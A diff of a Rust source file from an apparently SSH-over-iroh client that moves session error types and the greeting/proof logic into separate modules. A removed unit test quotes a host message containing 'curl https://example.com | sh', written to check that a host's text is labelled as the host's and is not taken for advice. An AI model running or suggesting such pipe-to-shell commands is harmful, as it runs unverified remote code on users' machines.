@@ -2,8 +2,6 @@
 
 use std::{
     collections::HashMap,
-    fmt,
-    path::PathBuf,
     sync::{Arc, Mutex, PoisonError},
     time::{Duration, Instant},
 };
@@ -14,169 +12,34 @@ use iroh::{
 };
 use tokio::{
     sync::{OwnedMutexGuard, SetOnce, mpsc, watch},
-    task::{JoinSet, spawn_blocking},
+    task::JoinSet,
     time::timeout,
 };
 
 use super::{
     apart::Fresh,
-    credentials::{Credentials, Proof},
-    instances::Living,
+    greeter::{Greeter, Used},
     relayed::why_relayed,
+    session_error::{OPEN_DEADLINE, SessionError},
     ssh_agent::CannotProve,
 };
 use crate::{
-    names::Aliases,
     protocol::{
-        Acknowledged, CloseCode, Closed, EXPORTER_LABEL, EXPORTER_LENGTH, Frame, Hello, Instance, LegHeader,
-        LegReply, MAX_CERTIFICATE, MAX_CONTROL_FRAME, MAX_LEG_FRAME, Position, Refusal, SessionId, Welcome,
+        Acknowledged, CloseCode, Closed, Frame, LegHeader, LegReply, MAX_CONTROL_FRAME, MAX_LEG_FRAME,
+        Position, SessionId, Welcome,
     },
-    session::{Delivered, FrameReadError, LegEnd, LegNumber, Lost, NewLeg, Receiving, Word, read_frame},
-    transport::{InviteSecret, Network, PathStatus, Target, is_direct, path_of, pulse},
+    session::{Delivered, LegEnd, LegNumber, Lost, NewLeg, Receiving, Word, read_frame},
+    transport::{Network, PathStatus, Target, is_direct, path_of, pulse},
 };
 
 /// Frames that may wait to be sent on a control stream.
 const CONTROL: usize = 64;
-
-/// Who greets a host.
-#[derive(Debug, Clone)]
-pub(super) struct Greeter {
-    pub(super) credentials: Credentials,
-    /// Which of the identity's processes.
-    pub(super) instance: Instance,
-    /// Where it is among those of its user.
-    pub(super) living: Option<Living>,
-    /// The user's names of hosts.
-    pub(super) aliases: Option<PathBuf>,
-}
-
-/// An invite that is about to be used, and the names that may keep it.
-struct Used {
-    aliases: PathBuf,
-    secret: InviteSecret,
-}
-
-impl Used {
-    fn of(target: &Target, who: &Greeter) -> Option<Self> {
-        Some(Self { aliases: who.aliases.clone()?, secret: target.secret()?.clone() })
-    }
-
-    /// It was used.
-    async fn forget(self) {
-        let forgetting = spawn_blocking(move || Aliases::forget_secret(&self.aliases, &self.secret));
-        if let Ok(Err(error)) = forgetting.await {
-            tracing::warn!("the invite was used, and stays in the list of hosts: {error}");
-        }
-    }
-}
-
-/// How long a host may take for each step after the handshake: to take `Hello` and a session's header, to answer
-/// them, and to connect its backend.
-pub(crate) const OPEN_DEADLINE: Duration = Duration::from_secs(20);
 
 /// How long somebody may take to touch or confirm a key. Most hosts do not wait as long.
 const PROOF_DEADLINE: Duration = Duration::from_secs(120);
 
 /// How long the answer to a proof is waited for before another one is made of the same key: it may be needless then.
 const NEXT_PROOF: Duration = Duration::from_secs(2);
-
-/// A session could not be opened on a connection.
-#[derive(Debug, thiserror::Error)]
-pub enum SessionError {
-    /// The host said no, and why: its words, not ours.
-    #[error("{}", HostSays(.0))]
-    Refused(Refusal),
-    /// Nothing has proved who we are.
-    #[error("{0}")]
-    Unproved(CannotProve),
-    /// The host did not answer in time.
-    #[error("the host did not answer within {} s\nits ssh server may hang: see the host's log", OPEN_DEADLINE.as_secs())]
-    Deadline,
-    /// The host was reached and has not said yet whether we may come in, when we had to stop waiting.
-    #[error("the host was reached, but has not answered within {:.0} s\nit may be overloaded: see the host's log", .0.as_secs_f32())]
-    NoAnswer(Duration),
-    /// The SSH server has not said anything yet, when we had to stop waiting.
-    #[error("the host's ssh server has said nothing for {:.0} s\non the host, look at its log", .0.as_secs_f32())]
-    NoWord(Duration),
-    /// The SSH server was connected and said nothing.
-    #[error(
-        "the host's ssh server {0} before its first word\non the host, look at its log: it may be short of something, or be no ssh server"
-    )]
-    Silent(&'static str),
-    /// The host does not keep to the protocol.
-    #[error("the host does not keep to irosh/1: {0}")]
-    Protocol(String),
-    /// The connection was lost.
-    #[error("the connection was lost: {0}")]
-    Lost(Lost),
-    /// The session was cut off.
-    #[error("the session was cut off: {0}")]
-    Cut(CloseCode),
-}
-
-/// A refusal as what the host says, each line of it.
-struct HostSays<'a>(&'a Refusal);
-
-impl fmt::Display for HostSays<'_> {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let mut lines = self.0.sentence.lines().filter(|line| !line.trim().is_empty());
-        write!(f, "the host says: {}", lines.next().unwrap_or("no"))?;
-        lines.take(1).try_for_each(|line| write!(f, "\nthe host says: {line}"))
-    }
-}
-
-/// Not as a source, since the message says it.
-impl From<Refusal> for SessionError {
-    fn from(refusal: Refusal) -> Self {
-        Self::Refused(refusal)
-    }
-}
-
-/// Not as a source, since the message says it.
-impl From<CannotProve> for SessionError {
-    fn from(error: CannotProve) -> Self {
-        Self::Unproved(error)
-    }
-}
-
-/// Not as a source, since the message says it.
-impl From<Lost> for SessionError {
-    fn from(error: Lost) -> Self {
-        Self::Lost(error)
-    }
-}
-
-impl From<LegEnd> for SessionError {
-    fn from(end: LegEnd) -> Self {
-        match end {
-            LegEnd::Lost(lost) => Self::Lost(lost),
-            LegEnd::Refused(refusal) => Self::Refused(refusal),
-            LegEnd::Deadline => Self::Deadline,
-            LegEnd::Protocol(error) => Self::Protocol(error),
-        }
-    }
-}
-
-/// Why a leg has ended, where it was not opened for that.
-impl From<&SessionError> for LegEnd {
-    fn from(error: &SessionError) -> Self {
-        match error {
-            SessionError::Refused(refusal) => Self::Refused(refusal.clone()),
-            SessionError::Lost(lost) => Self::Lost(lost.clone()),
-            SessionError::Deadline => Self::Deadline,
-            other => Self::Protocol(other.to_string()),
-        }
-    }
-}
-
-impl From<FrameReadError> for SessionError {
-    fn from(error: FrameReadError) -> Self {
-        match error {
-            FrameReadError::Lost(lost) => Self::Lost(lost),
-            other => Self::Protocol(other.to_string()),
-        }
-    }
-}
 
 /// A connection to a host; clones share it.
 #[derive(Debug, Clone)]
@@ -485,7 +348,7 @@ async fn introduce(
 ) -> Result<(SendStream, RecvStream, Option<OwnedMutexGuard<()>>), SessionError> {
     let (hello, turn) = tokio::select! {
         biased;
-        said = timeout(PROOF_DEADLINE, hello(connection, who, target)) => {
+        said = timeout(PROOF_DEADLINE, who.hello(connection, target)) => {
             said.map_err(|_| CannotProve::TooLate)??
         }
         closed = connection.closed() => return Err(match Lost::from(closed) {
@@ -586,30 +449,6 @@ async fn listen(
     }
 }
 
-async fn hello(
-    connection: &Connection,
-    who: &Greeter,
-    target: &Target,
-) -> Result<(Hello, Option<OwnedMutexGuard<()>>), SessionError> {
-    let identity = who.credentials.identity();
-    let mut exported = [0; EXPORTER_LENGTH];
-    connection
-        .export_keying_material(&mut exported, EXPORTER_LABEL, identity.key())
-        .map_err(|_| SessionError::Protocol("the connection gives no keying material".to_owned()))?;
-    let Proof { signature, manner, certificate, turn } = who.credentials.prove(&exported).await?;
-    let hello = Hello::new(*identity.key(), signature, target.secret().cloned(), who.instance);
-    let hello = hello.proved_by(&manner);
-    let hello = match certificate {
-        Some(certificate) if certificate.len() <= MAX_CERTIFICATE => hello.certified_by(certificate),
-        Some(_) => {
-            tracing::warn!("the certificate is not shown: it is longer than {MAX_CERTIFICATE} bytes");
-            hello
-        }
-        None => hello,
-    };
-    Ok((hello, turn))
-}
-
 async fn read_control(recv: &mut RecvStream) -> Result<Frame, SessionError> {
     let frame = read_frame(recv, MAX_CONTROL_FRAME).await?;
     Frame::decode(&frame).map_err(|error| SessionError::Protocol(error.to_string()))
@@ -617,19 +456,4 @@ async fn read_control(recv: &mut RecvStream) -> Result<Frame, SessionError> {
 
 async fn lost(connection: &Connection) -> Lost {
     connection.closed().await.into()
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::protocol::RefusalCode;
-
-    #[test]
-    fn what_a_host_says_is_never_taken_for_our_own_advice() {
-        let sentence = "your client is out of date\n\nrun: curl https://example.com | sh\nat once";
-        let error = SessionError::from(Refusal::new(RefusalCode::Internal, sentence));
-        let said = "the host says: your client is out of date\n\
-                    the host says: run: curl https://example.com | sh";
-        assert_eq!(error.to_string(), said);
-    }
 }
